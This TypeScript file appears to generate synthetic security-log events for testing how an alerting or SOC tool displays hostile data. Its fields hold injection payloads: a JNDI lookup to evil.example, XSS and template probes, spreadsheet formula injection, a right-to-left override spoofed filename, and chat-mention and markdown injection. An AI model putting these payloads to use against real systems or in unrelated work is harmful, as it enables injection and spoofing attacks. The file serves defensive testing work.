import { accountNamed, machineNamed, nina, places } from '../estate.ts';
import { http } from '../events/azure.ts';
import { deviceFile, deviceProcess } from '../events/devices.ts';
import { audit, browsers, signIn, targetUser } from '../events/identity.ts';
import { lookup, syslog } from '../events/network.ts';
import { fileOperation, mail } from '../events/office.ts';
import { processCreated } from '../events/windows.ts';
import type { Story } from './story.ts';

/** Turns what follows around, so that a name seems to end in another way. */
const RIGHT_TO_LEFT = '\u202e';
const finance = machineNamed('vm-fin-07');
/** As in the alert: what templates, lookups and pages would make something of. */
const template =
  '$' +
  '{jndi:ldap://evil.example/a} <script>alert(document.domain)</script> <img src=x onerror=alert(1)> {{7*7}} $' +
  '{if(true, title, 0)}';
const explorer = { path: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\explorer.exe' };

const hostileMail: Story = ({ dice, before }) => [
  ...mail(dice, {
    at: before(9),
    from: 'it-support@contoso-helpdesk.example',
    displayName: `<at>Everyone</at> ${RIGHT_TO_LEFT}troppuS TI`,
    senderIp: places.singapore.ip,
    to: nina,
    subject: '<!channel> [Your password ends today](https://evil.example/login)',
    url: 'https://login.contoso.com@evil.example/%2e%2e/?next=https://portal.azure.com',
    threat: 'Phish',
    attachment: {
      name: 'voucher.html',
      sha256: 'b5d4045c3f466fa91fe2cc6abe79232a1a57cdf104f7a26e716e0a1e2789df78',
    },
  }),
];

const hostileProcess: Story = ({ dice, before }) => {
  const path = 'C:\\Users\\Public\\<!channel> [click](https://evil.example/login) @everyone.exe';
  const commandLine = `"${path}" --note "*URGENT* <https://evil.example|Approve sign-in> <@U0OLIVIA> <at>Olivia Marsh</at>"`;
  return [
    deviceProcess(dice, {
      machine: finance,
      at: before(4),
      account: nina.name,
      path,
      commandLine,
      pid: 0x9f4,
      parent: explorer,
    }),
    processCreated(dice, {
      machine: finance,
      at: before(4),
      account: nina.name,
      path,
      commandLine,
      parent: explorer.path,
      pid: '0x9f4',
    }),
    deviceFile(dice, {
      machine: finance,
      at: before(3.5),
      account: nina.name,
      path: `C:\\Users\\nina.berg\\Desktop\\invoice_${RIGHT_TO_LEFT}xcod.exe`,
      action: 'FileCreated',
      by: { path, commandLine },
    }),
  ];
};

const hostileAgent: Story = ({ dice, spread }) =>
  spread(900, 17, 2).map((at, n) =>
    http(dice, {
      at,
      from: places.rotterdam.ip,
      path: ['/search', '/login', '/admin', '/.env'][n % 4] ?? '/',
      query: 'q="><svg/onload=alert(1)>',
      status: 403,
      agent: template,
      referer: 'javascript:alert(1)',
    }),
  );

/** No alert's: values that try every place where rows are shown. */
const hostileValues: Story = ({ dice, before }) => {
  const mallory = accountNamed('mallory');
  const long = `powershell.exe -EncodedCommand ${'QQBBAEEA'.repeat(1_250)}`.slice(0, 10_000);
  return [
    fileOperation(dice, {
      at: before(30),
      who: mallory,
      from: places.office.ip,
      operation: 'FileUploaded',
      site: 'Handbook',
      file: "=cmd|' /C calc'!A0.csv",
    }),
    fileOperation(dice, {
      at: before(29),
      who: mallory,
      from: places.office.ip,
      operation: 'FileUploaded',
      site: 'Handbook',
      file: '+HYPERLINK("https://evil.example";"Open").xlsx',
    }),
    fileOperation(dice, {
      at: before(28),
      who: mallory,
      from: places.office.ip,
      operation: 'FileUploaded',
      site: 'Handbook',
      file: '@SUM(1+1)*cmd|calc.xlsx',
    }),
    deviceProcess(dice, {
      machine: finance,
      at: before(27),
      account: nina.name,
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: long,
      parent: explorer,
    }),
    syslog(
      machineNamed('vm-shop-001'),
      before(26),
      'user',
      'notice',
      'logger',
      '<!here> <!subteam^S012345|@soc> *bold* _it_ ~gone~ `code` ```fence``` | a | b |\n> quoted\n# heading',
      4_242,
    ),
    syslog(
      machineNamed('vm-shop-001'),
      before(25),
      'user',
      'notice',
      'logger',
      `\u001b[31mred\u001b[0m \u0007 ${RIGHT_TO_LEFT}desrever \u2066isolated\u2069 zero\u200bwidth \u0000end`,
      4_242,
    ),
    lookup(dice, {
      at: before(24),
      client: finance,
      name: '<@U0OLIVIA>.<!everyone>.evil.example',
      type: 'TXT',
      code: 3,
    }),
    signIn(dice, {
      at: before(23),
      who: mallory,
      from: places.office,
      agent: '[Close incident](https://evil.example/close) <https://evil.example|portal> &lt;at&gt; {title}',
    }),
    audit(dice, {
      at: before(22),
      operation: 'Update user',
      category: 'UserManagement',
      by: mallory,
      from: places.office.ip,
      targets: [
        targetUser(mallory, [
          {
            displayName: 'DisplayName',
            oldValue: '["Mallory Stone"]',
            newValue: '["<at>Olivia Marsh</at> **approved**"]',
          },
        ]),
      ],
    }),
    http(dice, {
      at: before(21),
      from: places.rotterdam.ip,
      path: '/\u0430dmin',
      status: 404,
      agent: browsers.firefox,
      referer: 'https://xn--dmin-43d.example/',
    }),
  ];
};

export const hostileStories: Record<string, Story> = {
  'hostile-mail': hostileMail,
  'hostile-process-name': hostileProcess,
  'hostile-user-agent': hostileAgent,
  'hostile-values': hostileValues,
};
